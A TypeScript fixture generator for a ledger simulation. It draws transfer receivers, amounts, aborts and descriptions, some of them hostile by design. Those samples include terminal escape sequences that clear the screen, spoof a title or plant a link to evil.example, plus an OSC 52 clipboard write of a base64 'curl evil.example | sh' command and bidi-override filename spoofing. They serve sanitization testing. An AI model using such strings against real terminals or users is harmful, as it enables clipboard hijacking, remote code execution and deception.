import type { JsonObject } from '../../lib/json/json.ts';
import { drawPart, sumUnits, type Random } from '../decimal-units.ts';
import { takeHoldings } from '../state/active-contracts.ts';
import { transferTotal, type ValueMovement } from '../state/transfer-content.ts';
import type { HoldingRecord, LedgerState, LedgerEvent, Offer } from '../state/ledger-state.ts';

/** Descriptions as people write them. */
const friendly = [
  'rent May',
  'order 20417',
  'Gehalt Februar',
  '給与 二月分',
  'café ☕ und Kuchen 👩‍💻',
  'تسوية الفاتورة',
  'settlement batch 7/12',
  'refund, see ticket 88 "late delivery"',
  'https://shop.example/orders/20417?paid=1',
] as const;

/** Descriptions of somebody who means harm: to the terminal, to the clipboard, to the reader's eye. */
const hostile = [
  'paid\u001b[2J\u001b[1;1Hnothing to see here',
  '\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007thanks',
  '\u001b]0;root shell\u001b\\\u001b]8;;https://evil.example\u001b\\click\u001b]8;;\u001b\\',
  'invoice\u202Efdp.exe\u202C for carol\u2066 hidden\u2069',
  'zero\u200Bwidth\u200Djoiner\uFEFF and \u00ADsoft hyphen',
  'two\r\nlines\tand a \u0000 nul \u009B31m C1 \u007F',
  `Z${'\u0301\u0323\u0334'.repeat(12)}algo`,
  'x'.repeat(700),
] as const;

/** The field `description` for a few transfers; one in eight of those means harm. */
export const sampleDescription = (random: Random): JsonObject => {
  if (random.next() > 0.4) return {};
  return { description: random.below(8) === 0 ? random.pick(hostile) : random.pick(friendly) };
};

/** The terms of a transfer that a party is about to make. */
export interface Spending {
  readonly from: string;
  readonly inputs: readonly HoldingRecord[];
  readonly input: bigint;
}

/** Takes holdings of one owner, worth at least `min` if there are enough; undefined without any. */
export const spend = (world: LedgerState, min?: number): Spending | undefined => {
  const inputs = takeHoldings(world, min);
  const [first] = inputs;
  return first && { from: first.owner, inputs, input: transferTotal(inputs) };
};

/** Returns `count` different parties other than the sender, each with a part of the amount. */
const drawReceivers = (
  { random, traders }: LedgerState,
  { from, input }: Spending,
  count: number,
): ValueMovement['to'] => {
  const others = traders.filter((party) => party !== from);
  const chosen = Array.from({ length: count }, () => others.splice(random.below(others.length), 1));
  const share = input / BigInt(count);
  return chosen.flat().map((party) => ({ party, units: drawPart(random, share) }));
};

/** Draws who receives how much of it, and what is noted. */
export const drawMovement = (
  world: LedgerState,
  spending: Spending,
  count: number,
): ValueMovement => {
  const { from, input, inputs } = spending;
  const to = drawReceivers(world, spending, count);
  const change = input - sumUnits(to.map(({ units }) => units));
  return { from, inputs, input, change, to, texts: sampleDescription(world.random) };
};

/** How an offer is aborted: the choice, and the party that exercises it. */
interface Abort {
  readonly kind: string;
  readonly choice: string;
  readonly by: 'from' | 'to';
}

const aborts: readonly [Abort, ...Abort[]] = [
  { kind: 'withdraw', choice: 'TransferInstruction_Withdraw', by: 'from' },
  { kind: 'reject', choice: 'TransferInstruction_Reject', by: 'to' },
];

/** The sender withdraws an offer, or the receiver rejects it: which, and how the scan lists it. */
export const drawAbort = (world: LedgerState, offer: Offer) => {
  const { kind, choice, by } = world.random.pick(aborts);
  const listed: Pick<LedgerEvent, 'type' | 'content'> = {
    type: 'abort_transfer_instruction',
    content: () => ({
      abort_transfer_instruction: {
        abort_kind: kind,
        transfer_instruction_cid: offer.contract.id,
      },
    }),
  };
  return { choice, actor: offer[by], listed };
};
